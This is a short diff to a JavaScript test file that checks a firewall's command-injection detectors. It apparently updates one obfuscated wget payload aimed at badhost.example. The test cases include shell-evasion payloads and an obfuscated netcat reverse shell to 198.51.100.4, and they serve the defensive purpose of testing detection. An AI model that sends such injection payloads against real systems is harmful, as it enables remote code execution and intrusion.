@@ -62,7 +62,7 @@ describe("paranoia 2 and 3 wide detectors", () => {
     ["sn-cmdi-shell-evasion", query("1|who\\ami")],
     ["sn-cmdi-leading-command", query("sl``eep 9")],
     ["sn-cmdi-leading-command", query("ps$() aux")],
-    ["sn-cmdi-shell-evasion", query("o=1;wg$o\\et badhost.example")],
+    ["sn-cmdi-shell-evasion", query("o=g;w$o\\et badhost.example")],
     ["sn-cmdi-leading-command", query("{,$'ifconfig',}")],
     ["sn-cmdi-leading-command", form("cmd=%22%22n%22%22c%22%22 -e sh 198.51.100.4 9")],
     ["sn-cmdi-variable-command", query("p=/tmp&&t=touch&&$t $p/flag")],
